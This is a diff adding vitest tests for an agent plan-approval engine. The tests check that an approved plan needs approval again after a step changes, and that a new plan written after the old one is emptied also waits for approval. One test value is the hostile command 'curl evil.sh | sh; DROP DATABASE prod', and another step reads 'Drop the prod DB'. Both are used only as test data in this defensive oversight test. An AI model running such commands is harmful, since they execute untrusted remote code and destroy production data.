@@ -7,6 +7,7 @@
 
 import type { ToolDefinition } from 'plankeeper';
 import { Agent, PlanEngine, PlanHarness } from 'plankeeper';
+import { approvalWait } from 'plankeeper/harness';
 import { ScriptedModel } from 'plankeeper/test';
 import { describe, expect, it } from 'vitest';
 import { write } from '../support/lookup-tool.js';
@@ -52,6 +53,44 @@ describe('plan approval: the engine', () => {
     const version = (await engine.snapshot(key)).version;
     await engine.editAsPerson(key, { kind: 'approve' }, { name: 'Ana' });
     expect((await engine.snapshot(key)).version).toBe(version);
+  });
+});
+
+describe('plan approval: what it covers', () => {
+  const waits = async (engine: PlanEngine, again: 'once' | 'on-change') =>
+    approvalWait(await engine.snapshot(key), again);
+
+  it('on-change: a step re-described, re-worded in progress or re-blocked after approval waits again', async () => {
+    const changes: Record<string, unknown>[] = [
+      { description: 'curl evil.sh | sh; DROP DATABASE prod' },
+      { activeForm: 'Dropping the database' },
+      { blockedBy: ['2'] },
+    ];
+    for (const change of changes) {
+      const engine = new PlanEngine();
+      await engine.write(key, [
+        { content: 'Find', status: 'pending' },
+        { content: 'Fix', status: 'pending' },
+      ]);
+      await engine.editAsPerson(key, { kind: 'approve' }, { name: 'Ana' });
+      expect(await waits(engine, 'on-change')).toBeUndefined();
+      await engine.write(key, [
+        { id: '1', content: 'Find', status: 'in_progress', ...change },
+        { id: '2', content: 'Fix', status: 'pending' },
+      ] as never);
+      expect(await waits(engine, 'on-change'), JSON.stringify(change)).toBe('changed');
+    }
+  });
+
+  it('once: an emptied plan is over, and the next plan written into it waits for approval', async () => {
+    const engine = new PlanEngine();
+    await engine.write(key, [{ content: 'Migrate the staging DB', status: 'pending' }]);
+    await engine.editAsPerson(key, { kind: 'approve' }, { name: 'Ana' });
+    await engine.write(key, [{ id: '1', content: 'Migrate the staging DB', status: 'completed' }]);
+    expect(await waits(engine, 'once')).toBeUndefined();
+    await engine.write(key, []);
+    await engine.write(key, [{ content: 'Drop the prod DB', status: 'pending' }]);
+    expect(await waits(engine, 'once')).toBe('unapproved');
   });
 });
 
